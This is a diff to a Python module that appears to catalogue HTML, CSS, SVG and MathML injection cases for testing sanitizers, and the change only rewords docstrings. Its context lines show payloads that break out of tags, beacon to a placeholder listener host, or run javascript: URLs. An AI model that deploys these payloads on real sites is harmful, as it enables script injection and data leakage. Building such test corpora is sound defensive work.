@@ -1,6 +1,6 @@
-"""What a stranger may put into a layout, a text or a style sheet so that a page calls somebody, runs, or falls apart.
+"""What a stranger may put into a layout, a text or a style sheet to make a page call somebody, run, or fall apart.
 
-`HOST` stands in each where the address of a listener goes. Most are known from sanitizers that let them through.
+Each case has `HOST` in place of the address of a listener. Most are known from sanitizers that let them through.
 """
 
 from __future__ import annotations
@@ -14,7 +14,7 @@ RUN = f"new Image().src='{AT}'"
 
 
 class Case(NamedTuple):
-    """A page: what stands in its body, its head and its style sheet, and whether a browser calls for it by itself."""
+    """A page: its body, its head and its style sheet, and whether a browser calls as soon as it opens the page."""
 
     body: str = ""
     head: str = ""
@@ -23,7 +23,7 @@ class Case(NamedTuple):
 
 
 def quiet(body: str = "", head: str = "", css: str = "") -> Case:
-    """A page that calls once somebody presses something, in another browser, or if it were written carelessly."""
+    """A page that calls only after a click, in another browser, or if it were published carelessly."""
     return Case(body, head, css, calls=False)
 
 
@@ -101,7 +101,7 @@ STYLES: dict[str, Case] = {
     "comments of HTML in a style": Case(f"<style><!-- body{{background:url({AT})}} --></style>"),
     "a style of old": Case(f"<style type='text/css'>body{{background:url({AT})}}</style>"),
 }
-"""By style sheets, ``<style>`` and ``style``."""
+"""Cases in style sheets, ``<style>`` and ``style``."""
 
 OUT: dict[str, Case] = {
     "out of a string in a sheet": quiet(css=f"p{{content:'</style><img src={AT}>'}}"),
@@ -168,7 +168,7 @@ OUT: dict[str, Case] = {
     "half a character": quiet(f"<p title='&#xD800;'>&#xDFFF;&#x80;<b>a</b></p><p style='x:\\d800'>{AT}</p>"),
     "frames": quiet("", head=f"</head><frameset><frame src={AT}></frameset>"),
 }
-"""By leaving the element, the value or the language that it stands in."""
+"""Cases that break out of the element, the value or the language that contains them."""
 
 MARKUP: dict[str, Case] = {
     "a picture": Case(f"<img src={AT}>"),
@@ -238,7 +238,7 @@ MARKUP: dict[str, Case] = {
     "a script as citation": quiet('<q cite="javascript:alert(1)">a</q>'),
     "a manifest of old": quiet(f"<p>a</p></body></html><html manifest={AT}>"),
 }
-"""By elements and attributes of HTML."""
+"""Cases in elements and attributes of HTML."""
 
 DRAWINGS: dict[str, Case] = {
     "a fill": Case(SVG.format(RECT.format(f"fill='url({AT}#a)'"))),
@@ -293,6 +293,6 @@ DRAWINGS: dict[str, Case] = {
         f"<use x:href='{AT}'/><rect fill='url({AT})' style='mask:url({AT})'/><script>1</script></svg>\">"
     ),
 }
-"""By SVG and MathML."""
+"""Cases in SVG and MathML."""
 
 CASES = {**STYLES, **OUT, **MARKUP, **DRAWINGS}
